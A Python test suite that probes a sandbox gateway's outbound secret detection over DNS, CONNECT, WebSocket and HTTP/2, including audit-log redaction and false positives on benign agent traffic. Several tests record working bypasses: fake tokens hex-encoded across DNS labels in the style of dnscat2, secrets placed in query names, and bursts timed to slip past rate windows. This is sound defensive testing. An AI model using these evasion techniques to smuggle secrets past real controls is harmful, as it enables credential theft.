#!/usr/bin/python3
"""
Third probe of outbound secret detection (docs/dlp.md) under
`dlp: {mode: block}`: DNS and destination names, WebSocket, HTTP/2, the
audit row, and false positives on benign agent traffic. Each test sends
and asserts what docs/dlp.md promises. A test whose docstring starts
FINDING fails on the binary it was written against; the others are
probes that held, kept because no other test sends them.

The upstream resolver here is a recorder (UpstreamDNS): every name the
gateway asks it is kept, so a name that leaves the gateway is seen. The
origins (RawOrigin) record every byte they receive.
"""

import base64
import json
import os
import socket
import struct
import sys
import threading
import time
import unittest
import zlib

sys.dont_write_bytecode = True  # keep the source tree clean
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sgtest as T  # noqa: E402
from test_credentials import TestCA  # noqa: E402
from test_websocket_scrub import WsOrigin  # noqa: E402
from test_http2 import H2, frame, HEADERS, DATA, END_HEADERS, \
    END_STREAM  # noqa: E402
import wsframe as W  # noqa: E402
import test_dlp2_probe as P2  # noqa: E402

API_HOST = "127.0.0.2"
B32 = "abcdefghijklmnopqrstuvwxyz234567"
HEX = "0123456789abcdef"
B62 = P2.B62
rand = P2.rand
aws_key = P2.aws_key
github_token = P2.github_token

TYPES = {"A": 1, "AAAA": 28, "TXT": 16, "HTTPS": 65}


def dns_query(labels, qtype=1, qid=None):
    """A DNS query message; labels: a list of bytes (any octets)."""
    qid = qid if qid is not None else int.from_bytes(os.urandom(2), "big")
    q = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + \
        struct.pack("!HH", qtype, 1)


def wire_labels(name):
    return [l.encode() for l in name.rstrip(".").split(".")]


class UpstreamDNS:
    """The gateway's upstream resolver on 127.0.0.1 (UDP and TCP): answers
    A 127.0.0.2 for every name (NOERROR, no records for other types) and
    records every question's name (the labels as bytes, lower-cased)."""

    def __init__(self):
        self.port = T.free_port(udp_too=True)
        self.lock = threading.Lock()
        self.names = []
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp = socket.socket()
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("127.0.0.1", self.port))
        self.tcp.listen(16)
        threading.Thread(target=self._udp, daemon=True).start()
        threading.Thread(target=self._tcp, daemon=True).start()

    @property
    def addr(self):
        return "127.0.0.1:%d" % self.port

    def answer(self, msg):
        qid, = struct.unpack("!H", msg[:2])
        o, labels = 12, []
        while msg[o]:
            n = msg[o]
            labels.append(msg[o + 1:o + 1 + n].lower())
            o += 1 + n
        q = msg[12:o + 5]
        qtype, = struct.unpack("!H", msg[o + 1:o + 3])
        with self.lock:
            self.names.append(tuple(labels))
        if qtype == 1:
            return struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q + \
                b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 30, 4) + \
                socket.inet_aton(API_HOST)
        return struct.pack("!HHHHHH", qid, 0x8180, 1, 0, 0, 0) + q

    def _udp(self):
        while True:
            try:
                m, a = self.udp.recvfrom(4096)
                self.udp.sendto(self.answer(m), a)
            except OSError:
                return
            except (IndexError, struct.error):
                continue

    def _tcp(self):
        while True:
            try:
                c, _ = self.tcp.accept()
            except OSError:
                return
            threading.Thread(target=self._tcp_conn, args=(c,),
                daemon=True).start()

    def _tcp_conn(self, c):
        c.settimeout(10)
        buf = b""
        try:
            while True:
                while len(buf) < 2 or len(buf) < 2 + struct.unpack(
                        "!H", buf[:2])[0]:
                    b = c.recv(4096)
                    if not b:
                        return
                    buf += b
                n, = struct.unpack("!H", buf[:2])
                m, buf = buf[2:2 + n], buf[2 + n:]
                a = self.answer(m)
                c.sendall(struct.pack("!H", len(a)) + a)
        except (OSError, IndexError, struct.error):
            pass
        finally:
            c.close()

    def saw(self, needle):
        """Whether a name holding needle (bytes, any case) was asked."""
        needle = needle.lower()
        with self.lock:
            return any(needle in b".".join(n) for n in self.names)

    def stop(self):
        self.udp.close()
        self.tcp.close()


POLICY = """\
sandboxes:
  - id: box-probe3
    policy: probe3
    source: [127.0.0.1/32]
policies:
  - name: probe3
    allow:
      - host: api.test
        ports: [{api}]
        tls: intercept
      - host: ws.test
        ports: [{ws}]
        tls: intercept
      - host: "*.plain.test"
        ports: [{plain}]
      - host: "*.exfil.test"
        ports: [443]
      - host: "*.thr.test"
        ports: [443]
      - host: "*.hex.test"
        ports: [443]
      - host: "*.tok.test"
        ports: [443]
      - host: "*.short.test"
        ports: [443]
      - host: "*.win.test"
        ports: [443]
    allow_private: [{api_ip}/32]
    dns_types: [A, AAAA, TXT, HTTPS]
    dlp:
      mode: block
"""


class Dlp3(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        cls.td = T.TempDir("sgtest-dlp3-")
        cls.addClassCleanup(cls.td.cleanup)
        d = cls.td.path
        cls.pki = TestCA(d)
        cls.api = P2.RawOrigin(API_HOST, *cls.pki.leaf("api.test",
            ["api.test"]))
        cls.addClassCleanup(cls.api.stop)
        cls.plain = P2.RawOrigin(API_HOST)
        cls.addClassCleanup(cls.plain.stop)
        cls.ws = WsOrigin(*cls.pki.leaf("ws.test", ["ws.test"]))
        cls.addClassCleanup(cls.ws.stop)
        cls.dns = UpstreamDNS()
        cls.addClassCleanup(cls.dns.stop)
        cls.dport = T.free_port(udp_too=True)
        cls.sport = T.free_port()
        cls.gw = T.Gateway(d, cls.dns, {"p.yaml": POLICY.format(
            api=cls.api.port, ws=cls.ws.port, plain=cls.plain.port,
            api_ip=API_HOST)},
            extra={"upstream": {"ca_bundle": cls.pki.cert},
                   "listen": {"dns": "127.0.0.1:%d" % cls.dport,
                              "socks5": "127.0.0.1:%d" % cls.sport}})
        cls.gw.start()
        cls.addClassCleanup(cls.gw.stop)
        cls.gw_ca = cls.gw.ca_path()
        cls.ctx = cls.gw.client_context()
        cls.seq = 0

    # ------------------------------------------------------------ helpers

    def mark(self):
        Dlp3.seq += 1
        return "/p3/%d" % Dlp3.seq

    def ask(self, labels, qtype="A", tcp=False):
        """One query to the gateway's DNS listener; its rcode (None: no
        answer)."""
        if isinstance(labels, str):
            labels = wire_labels(labels)
        m = dns_query(labels, TYPES[qtype])
        if tcp:
            s = socket.create_connection(("127.0.0.1", self.dport), 5)
            try:
                s.sendall(struct.pack("!H", len(m)) + m)
                buf = b""
                while len(buf) < 4:
                    b = s.recv(4096)
                    if not b:
                        return None
                    buf += b
                return buf[5] & 0xf
            finally:
                s.close()
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        try:
            s.sendto(m, ("127.0.0.1", self.dport))
            r, _ = s.recvfrom(4096)
            return r[3] & 0xf
        except socket.timeout:
            return None
        finally:
            s.close()

    def tunnel(self, host="api.test"):
        c, r = T.open_tunnel(self.gw.port, "%s:%d" % (host, self.api.port))
        self.addCleanup(c.close)
        self.assertEqual(r.status, 200, r)
        c.sock = self.ctx.wrap_socket(c.sock, server_hostname=host)
        return c

    def post(self, path, body, hdrs=""):
        if isinstance(body, str):
            body = body.encode()
        c = self.tunnel()
        c.send(("POST %s HTTP/1.1\r\nHost: api.test:%d\r\n%sContent-Length: "
                "%d\r\n\r\n" % (path, self.api.port, hdrs, len(body))).encode())
        for i in range(0, len(body), 16384):
            try:
                c.send(body[i:i + 16384])
            except OSError:
                break
        try:
            return c.read_response()
        except (EOFError, OSError, ValueError):
            return None

    # ------------------------------------------------------------ DNS

    def test_dns_thresholds_hold(self):
        """The documented thresholds, just below and just above, as the
        upstream sees them: a 39-character base32 label resolves, 40 is
        refused (NXDOMAIN, never asked upstream); the same for an upper-case
        label, a base64url label with `-` and `_`, and over TCP; labels
        together 47 characters pass, 48 are refused; a TXT and an HTTPS
        query of a 40-character label are refused too."""
        misses = []
        cases = []
        for n, want in ((39, 0), (40, 3)):
            cases.append(("b32 %d" % n, rand(n, B32) + ".a.thr.test", "A",
                False, want))
            cases.append(("B32 %d" % n, rand(n, B32.upper()) + ".a.thr.test",
                "A", False, want))
            cases.append(("b64url %d" % n, "x-_" + rand(n - 4, B62 + "-_") + "x" +
                ".a.thr.test", "A", False, want))
            cases.append(("tcp %d" % n, rand(n, B32) + ".a.thr.test", "A",
                True, want))
        for qt in ("TXT", "HTTPS", "AAAA"):
            cases.append((qt, rand(40, B32) + ".a.thr.test", qt, False, 3))
        lab = rand(47, B32)
        cases.append(("47 over 3 labels", "%s.%s.%s.thr.test" % (lab[:16],
            lab[16:32], lab[32:47]), "A", False, 0))
        lab = rand(48, B32)
        cases.append(("48 over 3 labels", "%s.%s.%s.thr.test" % (lab[:16],
            lab[16:32], lab[32:48]), "A", False, 3))
        for what, name, qt, tcp, want in cases:
            rc = self.ask(name, qt, tcp)
            asked = self.dns.saw(name.split(".")[0].encode())
            if rc != want or asked != (want == 0):
                misses.append("%s: rcode %s, asked upstream %s" % (what, rc,
                    asked))
        self.assertEqual(misses, [])

    def test_dns_hex_across_labels(self):
        """FINDING. A .env line hex-encoded (`xxd -p`), cut into labels of
        39 digits (dnscat2-style) under an allowed parent, in one query:
        `<39 hex>.<39 hex>.<39 hex>.<...>.hex.test` -- 58 bytes of payload
        holding a GitHub token. docs/dlp.md (Where, "DNS query names"):
        "the labels but the last two carry an encoded payload -- one label
        of 40 or more characters ... or those labels together 48 or more
        characters with at least 4.0 bits"; the Where intro names hex among
        the encodings. What happened: NOERROR, the name went to the
        upstream resolver whole. Hex has 16 symbols, so no hex text reaches
        4.0 bits per character: dns-encoded-name can never see a hex
        payload, whatever its length, as long as each label stays under 40."""
        tok = github_token()
        h = ("T=" + tok + "\n").encode().hex()
        labs = [h[i:i + 39] for i in range(0, len(h), 39)]
        name = ".".join(labs) + ".hex.test"
        self.assertGreaterEqual(len("".join(labs)), 48)
        rc = self.ask(name)
        self.assertFalse(self.dns.saw(labs[0].encode()),
            "the upstream resolver was asked %s (rcode %s)" % (name, rc))
        self.assertEqual(rc, 3, name)

    def test_dns_short_token_in_label(self):
        """FINDING. Rule-shaped secrets shorter than 40 characters as one
        label of an allowed name, asked on the DNS listener: a Stripe key
        `sk_live_` + 24 (32 characters), a GitLab token `glpat-` + 20 (26),
        an AWS key id (20). docs/dlp.md opens: "the gateway scans what a
        sandbox sends on the traffic it sees in the clear and refuses (or
        reports) a request that carries a secret"; the rules table names
        these shapes. What happened: NOERROR, each name went to the
        upstream resolver with the secret in it as sent: only the encoded-
        payload checks look at a name, no rule does."""
        misses = []
        for sec in ("sk_live_" + rand(24), "glpat-" + rand(20), aws_key()):
            name = sec + ".c.tok.test"
            rc = self.ask(name)
            if self.dns.saw(sec.encode()) or rc != 3:
                misses.append("%s: rcode %s, asked upstream %s" % (name, rc,
                    self.dns.saw(sec.encode())))
            self.assert_not_in_rows(sec)
        self.assertEqual(misses, [])

    def assert_not_in_rows(self, sec):
        """docs/dlp.md: the secret itself never appears in a row (a name
        that holds one keeps its parent only: [redacted].tok.test)."""
        time.sleep(0.3)
        for r in self.gw.audit_rows():
            for k, v in r.items():
                self.assertNotIn(sec.lower(), str(v).lower(), (k, r))

    def test_connect_short_token_in_name(self):
        """FINDING. A Stripe key `sk_live_<24>` and an AWS key id as a
        CONNECT target's first label (`CONNECT sk_live_<24>.c.exfil.test:443`
        with the same `Host:`). docs/dlp.md (Where): headers are scanned,
        "every header, as `name: value`", and a finding in the target or a
        header refuses "before any name is resolved or any connection
        made". The control holds: the same kind of secret as the host of
        an absolute-form plain-http request (`GET http://glpat-<20>.d.
        plain.test:PORT/x`, `Host:` the same) is refused 403 and never
        resolved. What happened to the CONNECTs: 200, and the name, secret
        and all, was asked of the upstream resolver."""
        sec = "glpat-" + rand(20)
        name = "%s.d.plain.test:%d" % (sec, self.plain.port)
        c = T.Conn(self.gw.port)
        self.addCleanup(c.close)
        c.send("GET http://%s/x HTTP/1.1\r\nHost: %s\r\n\r\n" % (name, name))
        r = c.read_response()
        self.assertEqual(r.status, 403, r)
        self.assertFalse(self.dns.saw(sec.encode()))
        self.assertFalse(self.plain.received(sec))
        self.assert_not_in_rows(sec)
        misses = []
        for sec in ("sk_live_" + rand(24), aws_key()):
            name = sec + ".c.exfil.test"
            c, r = T.open_tunnel(self.gw.port, name + ":443")
            c.close()
            if self.dns.saw(sec.encode()) or r.status != 403:
                misses.append("CONNECT %s: %s, asked upstream %s" % (name,
                    r.status, self.dns.saw(sec.encode())))
            self.assert_not_in_rows(sec)
        self.assertEqual(misses, [])

    def test_dns_binary_label(self):
        """DNS labels may hold any octet (RFC 2181 11): labels of raw bytes
        (60 octets of a token XOR'd with a one-byte key), which the gateway
        would render as `\\DDD` escapes (11 symbols, under 3.5 bits), are
        refused (invalid-host, NXDOMAIN) and never asked upstream."""
        tok = github_token().encode()
        payload = bytes(b ^ 0xA5 for b in tok * 2)[:60]
        labels = [payload[:60], b"e", b"exfil", b"test"]
        rc = self.ask(labels)
        asked = self.dns.saw(payload[:20].lower())
        self.assertFalse(asked, "the binary label went upstream (rcode %s)"
            % rc)
        self.assertEqual(rc, 3)

    def test_dns_burst_short_labels(self):
        """FINDING. The burst count's floor, from the other side: 64
        distinct names under one parent within a few seconds, each with
        four base32 labels of 11 characters (44 payload characters, 27
        bytes per name): `<11>.<11>.<11>.<11>.f.short.test`. docs/dlp.md
        (dns-encoded-burst): "a trickle of short encoded labels stays under
        those limits, so the DNS listener counts ... the distinct names";
        the 32nd within 60 seconds is a finding. What happened: every one
        resolved upstream: no label reaches the 12 characters the count
        asks, the name stays under 48, so 64 x 27 bytes left in seconds."""
        got = []
        for i in range(64):
            labs = [rand(11, B32) for _ in range(4)]
            name = ".".join(labs) + ".f.short.test"
            rc = self.ask(name)
            if rc == 0 and self.dns.saw(labs[0].encode()):
                got.append(name)
        self.assertLess(len(got), 32, "%d of 64 resolved upstream" % len(got))

    def test_dns_burst_window_is_fixed(self):
        """FINDING (takes about a minute). docs/dlp.md (dns-encoded-burst):
        "the 32nd within 60 seconds, and every further one in that window,
        is a finding". Sent under win.test (a parent of its own): one name
        with a 16-character base32 label (it opens the count), nothing for
        59.3 seconds, 30 distinct such names, one second of nothing, 30
        more. What happened: all 61 resolved upstream, the last 60 within
        about a second and a half: the window is fixed from the first name
        and starts over empty at its end, so twice the count passes inside
        two seconds."""
        def one():
            lab = rand(16, B32)
            rc = self.ask(lab + ".x.win.test")
            return rc == 0 and self.dns.saw(lab.encode())
        t0 = time.time()
        self.assertTrue(one())
        time.sleep(max(0, t0 + 59.3 - time.time()))
        t1 = time.time()
        passed = sum(1 for _ in range(30) if one())
        time.sleep(max(0, t0 + 60.5 - time.time()))
        passed += sum(1 for _ in range(30) if one())
        took = time.time() - t1
        self.assertLess(took, 5, "the 60 names took %.1f s" % took)
        self.assertLess(passed, 32, "%d of 60 names within %.1f s resolved "
            "upstream" % (passed, took))

    # ------------------------------------------------------------ audit

    def test_audit_secret_in_header_name(self):
        """A token in a header NAME (`X-<GitHub token>: 1` on HTTP/1.1,
        `x-glpat-<20>` on HTTP/2): refused, and neither the row (whose
        rule column names the header), the log nor the answer holds it
        (docs/dlp.md, What happens: the secret never appears in a row)."""
        tok = github_token()
        path = self.mark()
        c = self.tunnel()
        c.send(("GET %s HTTP/1.1\r\nHost: api.test:%d\r\nX-%s: 1\r\n\r\n" % (
            path, self.api.port, tok)).encode())
        r = c.read_response()
        self.assertEqual(r.status, 403, r)
        self.assertFalse(self.api.received(tok))
        leaks = []
        if tok[4:].encode() in r.body:
            leaks.append("answer body: %r" % r.body)
        rows = self.gw.wait_audit(pred=lambda x: (x.get("path") or "")
            .startswith(path))
        self.assertTrue(rows)
        for x in rows:
            for k, v in x.items():
                if tok[4:].lower() in str(v).lower():
                    leaks.append("row %s: %s" % (k, v))
        tok2 = "glpat-" + rand(20, B32)     # HTTP/2 names are lower case
        h = H2(self, "api.test", self.api.port)
        path2 = self.mark()
        h.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, h.block(1, "GET",
            path2, [("x-" + tok2, "1")])))
        st, = h.wait(1)
        self.assertEqual(H2.status(st), 403, st)
        self.assertFalse(self.api.received(tok2))
        rows = self.gw.wait_audit(pred=lambda x: (x.get("path") or "")
            .startswith(path2))
        for x in rows:
            for k, v in x.items():
                if tok2[4:].lower() in str(v).lower():
                    leaks.append("h2 row %s: %s" % (k, v))
        time.sleep(0.3)
        log = self.gw.log_text().lower()
        if tok[4:].lower() in log or tok2[4:].lower() in log:
            leaks.append("the log holds a token")
        self.assertEqual(leaks, [])

    def test_audit_secret_as_method(self):
        """FINDING. An AWS key id as the request's method (`AKIA<16> /path
        HTTP/1.1`): docs/dlp.md (Where, request line) says the method is
        scanned ("23 characters hold an AWS key id", the row says
        `method`), and (What happens) "The secret itself never appears in
        a row, a log line or the answer". What happened: refused 403, the
        rule column is redacted (`dlp:aws-access-key-id method
        AKIA/20/#...`), but the row's `method` column holds the key whole
        (`"method": "AKIA..."`)."""
        key = aws_key()
        path = self.mark()
        c = self.tunnel()
        c.send(("%s %s HTTP/1.1\r\nHost: api.test:%d\r\n\r\n" % (key, path,
            self.api.port)).encode())
        r = c.read_response()
        self.assertEqual(r.status, 403, r)
        self.assertNotIn(key[4:].encode(), r.body)
        rows = self.gw.wait_audit(pred=lambda x: (x.get("path") or "")
            .startswith(path))
        self.assertTrue(rows)
        for x in rows:
            self.assertNotIn(key[4:], json.dumps(x))
        time.sleep(0.2)
        self.assertNotIn(key[4:], self.gw.log_text())

    # ------------------------------------------------------------ WebSocket

    def upgrade(self, path):
        c, r = T.open_tunnel(self.gw.port, "ws.test:%d" % self.ws.port)
        self.addCleanup(c.close)
        self.assertEqual(r.status, 200, r)
        c.sock = self.ctx.wrap_socket(c.sock, server_hostname="ws.test")
        key = base64.b64encode(os.urandom(16)).decode()
        c.send("GET %s HTTP/1.1\r\nHost: ws.test:%d\r\nUpgrade: websocket\r\n"
               "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
               "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: "
               "permessage-deflate\r\n\r\n" % (path, self.ws.port, key))
        r = c.read_response()
        self.assertEqual(r.status, 101, r)
        return c

    def test_ws_rsv1_compressed_frame(self):
        """A client that sends a permessage-deflate frame (RSV1 set, the
        payload raw deflate of a line with a GitHub token) although the
        extension was not agreed: the origin must not get the compressed
        bytes (the gateway cannot scan what it does not inflate: docs/dlp.md
        WebSocket row, "each client message, unmasked"). Also: a text
        message whose token is cut across three fragments, each masked
        with its own key, a ping and a pong between them."""
        tok = github_token()
        co = zlib.compressobj(6, zlib.DEFLATED, -15)
        comp = co.compress(("token " + tok).encode()) + co.flush()
        comp = comp[:-4] if comp.endswith(b"\0\0\xff\xff") else comp
        c = self.upgrade("/echo" + self.mark())
        c.send(W.encode_frame(W.OP_TEXT, b"clean", mask=os.urandom(4)))
        self.assertEqual(W.read_frame(c.read_exact).payload, b"clean")
        f = bytearray(W.encode_frame(W.OP_TEXT, comp, mask=os.urandom(4)))
        f[0] |= 0x40
        c.send(bytes(f))
        time.sleep(0.5)
        self.assertFalse(self.ws.got_payload(comp),
            "the origin got the deflated frame")
        c = self.upgrade("/echo" + self.mark())
        c.send(W.encode_frame(W.OP_TEXT, b"a " + tok[:13].encode(), fin=False,
            mask=b"\x00\x00\x00\x00"))
        c.send(W.encode_frame(W.OP_PING, b"p", mask=b"\xff\xff\xff\xff"))
        c.send(W.encode_frame(W.OP_CONT, tok[13:27].encode(), fin=False,
            mask=os.urandom(4)))
        c.send(W.encode_frame(W.OP_PONG, b"q", mask=os.urandom(4)))
        c.send(W.encode_frame(W.OP_CONT, tok[27:].encode() + b" b",
            mask=os.urandom(4)))
        time.sleep(0.5)
        self.assertFalse(self.ws.got_payload(tok[27:].encode()))

    # ------------------------------------------------------------ HTTP/2

    def test_h2_padded_data_and_cookie_crumbs(self):
        """HTTP/2: a GitHub token cut across three PADDED DATA frames (the
        padding junk of its own), and an AWS key id in the second of three
        `cookie` fields (RFC 9113 8.2.3 crumbs), and a GitLab token
        percent-encoded twice in :path: each refused, none at the origin."""
        misses = []
        tok = github_token()
        body = ("t=" + tok + "&x=1").encode()
        h = H2(self, "api.test", self.api.port)
        path = self.mark()
        h.send(frame(HEADERS, END_HEADERS, 1, h.block(1, "POST", path,
            [("content-length", str(len(body)))])))
        cuts = [0, 9, 25, len(body)]
        for i in range(3):
            piece = body[cuts[i]:cuts[i + 1]]
            pad = 7 + i
            fl = 0x8 | (END_STREAM if i == 2 else 0)
            h.send(frame(DATA, fl, 1, bytes([pad]) + piece + b"Z" * pad))
            time.sleep(0.05)
        try:
            st, = h.wait(1)
            st = H2.status(st)
        except Exception as e:   # noqa: BLE001
            st = repr(e)
        if self.api.received(tok[20:]) or st != 403:
            misses.append("padded DATA: %s, origin %s" % (st,
                self.api.received(tok[20:])))
        key = aws_key()
        h = H2(self, "api.test", self.api.port)
        h.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, h.block(1, "GET",
            self.mark(), [("cookie", "a=1"), ("cookie", "k=" + key),
                          ("cookie", "z=2")])))
        try:
            st, = h.wait(1)
            st = H2.status(st)
        except Exception as e:   # noqa: BLE001
            st = repr(e)
        if self.api.received(key) or st != 403:
            misses.append("cookie crumb: %s" % st)
        gl = "glpat-" + rand(20)
        h = H2(self, "api.test", self.api.port)
        pq = "".join("%%25%02X" % ord(ch) for ch in gl)
        h.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, h.block(1, "GET",
            self.mark() + "?q=" + pq)))
        try:
            st, = h.wait(1)
            st = H2.status(st)
        except Exception as e:   # noqa: BLE001
            st = repr(e)
        if self.api.received(pq[-20:]) or st != 403:
            misses.append(":path pct2: %s" % st)
        self.assertEqual(misses, [])

    # ------------------------------------------------------------ benign

    def benign_bodies(self):
        """(name, content type, body): traffic agents send, no secret in
        any. Random parts come from the seeded generator."""
        def b64(n):
            return base64.b64encode(bytes(ord(ch) for ch in rand(n,
                "".join(chr(i) for i in range(256))[:256]))).decode()
        def hx(n):
            return rand(n, HEX)
        def uuid():
            h = hx(32)
            return "%s-%s-4%s-a%s-%s" % (h[:8], h[8:12], h[13:16], h[17:20],
                h[20:])
        out = []
        lock = {"name": "app", "lockfileVersion": 3, "packages": {}}
        for i in range(40):
            n = "pkg-%d" % i
            lock["packages"]["node_modules/" + n] = {"version": "1.%d.0" % i,
                "resolved": "https://packages.example.com/npm/%s/-/%s-1.%d.0.tgz" %
                (n, n, i), "integrity": "sha512-" + b64(64), "license": "MIT"}
        out.append(("package-lock.json", "application/json",
            json.dumps(lock, indent=2)))
        out.append(("requirements.txt", "text/plain", "".join(
            "pkg%d==1.%d.0 \\\n    --hash=sha256:%s \\\n    --hash=sha256:%s\n"
            % (i, i, hx(64), hx(64)) for i in range(30))))
        out.append(("Cargo.lock", "text/plain", "version = 3\n\n" + "".join(
            '[[package]]\nname = "crate%d"\nversion = "0.%d.1"\nsource = '
            '"registry+https://index.example.com/crates"\n'
            'checksum = "%s"\n\n' % (i, i, hx(64)) for i in range(30))))
        out.append(("npm publish metadata", "application/json", json.dumps({
            "name": "app", "dist-tags": {"latest": "1.0.0"}, "versions": {
            "1.0.0": {"dist": {"shasum": hx(40), "integrity": "sha512-" +
            b64(64), "tarball": "https://packages.example.com/npm/app/-/app-1.0.0"
            ".tgz"}}}, "_attachments": {"app-1.0.0.tgz": {"content_type":
            "application/octet-stream", "data": b64(3000), "length": 3000}}})))
        spec = {"openapi": "3.0.3", "info": {"title": "Payments", "version":
            "1"}, "components": {"securitySchemes": {"api_key": {"type":
            "apiKey", "name": "X-API-Key", "in": "header"}, "bearerAuth": {
            "type": "http", "scheme": "bearer", "bearerFormat": "JWT"}},
            "schemas": {"Login": {"type": "object", "properties": {
            "username": {"type": "string", "example": "jdoe"}, "password": {
            "type": "string", "format": "password", "example":
            "your_password_here"}}}, "Token": {"type": "object", "properties":
            {"access_token": {"type": "string", "example":
            "xxxxxxxxxxxxxxxxxxxxxxxx"}, "token_type": {"type": "string",
            "example": "Bearer"}, "expires_in": {"type": "integer"}}}}}}
        out.append(("openapi.json", "application/json", json.dumps(spec,
            indent=2)))
        png = b64(6000)
        nb = {"cells": [{"cell_type": "code", "execution_count": 1,
            "source": ["import matplotlib.pyplot as plt\n", "plt.plot(x)"],
            "outputs": [{"output_type": "display_data", "data": {"image/png":
            png, "text/plain": ["<Figure size 640x480>"]}, "metadata": {}}]}],
            "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4,
            "nbformat_minor": 5}
        out.append(("notebook.ipynb", "application/json", json.dumps(nb,
            indent=1)))
        tf = {"version": 4, "terraform_version": "1.7.5", "serial": 12,
            "lineage": uuid(), "outputs": {}, "resources": [
            {"mode": "managed", "type": "aws_instance", "name": "web",
             "instances": [{"attributes": {"id": "i-0" + hx(16), "ami":
             "ami-0" + hx(16), "arn": "arn:aws:ec2:us-east-1:123456789012:"
             "instance/i-0" + hx(16), "private_ip": "10.0.1.23",
             "vpc_security_group_ids": ["sg-0" + hx(16)]}}]},
            {"mode": "managed", "type": "aws_db_instance", "name": "db",
             "instances": [{"attributes": {"id": "db-" + rand(26, B32.upper()
             ), "master_user_secret": [{"kms_key_id": "arn:aws:kms:us-east-1:"
             "123456789012:key/" + uuid(), "secret_arn": "arn:aws:"
             "secretsmanager:us-east-1:123456789012:secret:rds!db-" + uuid() +
             "-" + rand(6), "secret_status": "active"}], "password": None}}]}]}
        self.tfstate = json.dumps(tf, indent=2)
        out.append(("docker manifest",
            "application/vnd.oci.image.manifest.v1+json", json.dumps({
            "schemaVersion": 2, "mediaType":
            "application/vnd.oci.image.manifest.v1+json", "config": {
            "mediaType": "application/vnd.oci.image.config.v1+json", "digest":
            "sha256:" + hx(64), "size": 7023}, "layers": [{"mediaType":
            "application/vnd.oci.image.layer.v1.tar+gzip", "digest": "sha256:"
            + hx(64), "size": 32654 + i} for i in range(6)]})))
        out.append(("app.js.map", "application/json", json.dumps({
            "version": 3, "file": "app.min.js", "sources": ["src/login.ts"],
            "names": ["password", "form", "submit"], "mappings": ";".join(
            ",".join(rand(4, B62 + "+/") for _ in range(12))
            for _ in range(60)), "sourcesContent": [
            "export async function login(form: LoginForm) {\n"
            "  const password = form.controls.password.value;\n"
            "  return api.post('/login', { username: form.user, password });\n"
            "}\n"]})))
        out.append(("telemetry", "application/json", json.dumps({"events": [
            {"event_id": uuid(), "session_id": uuid(), "trace_id": hx(32),
             "span_id": hx(16), "ts": 1767225600 + i, "name": "tool_call",
             "attrs": {"tool": "bash", "duration_ms": 120 + i}}
            for i in range(30)]})))
        return out

    def test_fp_agent_traffic(self):
        """Benign traffic agents send passes under mode block (docs/dlp.md:
        the rules match secrets; tests/dlp/benign's kinds pass): npm
        package-lock.json (sha512 integrity, resolved URLs), pip hashes,
        Cargo.lock checksums, npm publish metadata (a base64 tarball), an
        OpenAPI spec with placeholder examples, a Jupyter notebook with a
        base64 PNG, an OCI manifest (digests), a source map (mappings,
        sourcesContent), telemetry with UUIDs and trace ids."""
        misses = []
        for name, ctype, body in self.benign_bodies():
            r = self.post(self.mark(), body, "Content-Type: %s\r\n" % ctype)
            if r is None or r.status != 200:
                misses.append("%s: %s %s %s" % (name, r and r.status,
                    r and r.header("X-Sandgate-Reason"), r and r.body[:120]))
        self.assertEqual(misses, [])

    def test_fp_secrets_manager_arn(self):
        """FINDING (false positive). A Terraform state with no secret in it
        -- an aws_db_instance whose master_user_secret names the secret by
        its ARN, as RDS-managed passwords do: `"secret_arn":
        "arn:aws:secretsmanager:us-east-1:123456789012:secret:rds!db-<uuid>
        -AbC123"` -- and the ARN alone as a JSON value, are refused 403
        secret-detected (dlp rule generic-secret): the ARN's `secret:` is
        the keyword and its sign, `rds!db-<uuid>-AbC123` 16-64 value
        characters above 3.5 bits. docs/dlp.md (Rules, generic-secret) is
        `secret` then `=` or `:` and a value; an ARN is a name, not a
        secret: `terraform state push`, an AWS SDK call (GetSecretValue's
        SecretId) or a CloudFormation template must pass under block."""
        self.benign_bodies()
        arn = ("arn:aws:secretsmanager:us-east-1:123456789012:secret:"
               "rds!db-3f2a9c1e-7b4d-4e8a-9c2f-1a2b3c4d5e6f-AbC123")
        misses = []
        for name, body in (("terraform.tfstate", self.tfstate),
                           ("GetSecretValue", json.dumps({"SecretId": arn}))):
            r = self.post(self.mark(), body,
                "Content-Type: application/json\r\n")
            if r is None or r.status != 200:
                misses.append("%s: %s %s" % (name, r and r.status,
                    r and r.body[:100]))
        self.assertEqual(misses, [])

    def test_fp_git_push(self):
        """`git push` over smart HTTP: POST /repo.git/git-receive-pack, a
        pkt-line command and a pack of zlib'd objects (binary), passes."""
        objs = b""
        for i in range(20):
            data = ("blob %d\n" % i).encode() + bytes(ord(ch) for ch in rand(
                2000, "".join(chr(k) for k in range(256))))
            z = zlib.compress(data)
            n = len(data)
            hdr = bytearray([0x30 | (n & 0x0f) | 0x80])
            n >>= 4
            while n:
                hdr.append((n & 0x7f) | (0x80 if n >> 7 else 0))
                n >>= 7
            objs += bytes(hdr) + z
        pack = b"PACK" + struct.pack("!II", 2, 20) + objs
        pack += bytes(20)
        cmd = ("%s %s refs/heads/main\0report-status side-band-64k "
               "agent=git/2.43.0" % ("0" * 40, rand(40, HEX))).encode()
        body = b"%04x" % (len(cmd) + 4) + cmd + b"0000" + pack
        r = self.post("/org/repo.git/git-receive-pack", body,
            "Content-Type: application/x-git-receive-pack-request\r\n")
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 200, "%s %s" % (r.header(
            "X-Sandgate-Reason"), r.body[:120]))


if __name__ == "__main__":
    T.require_binary()
    unittest.main(verbosity=2)
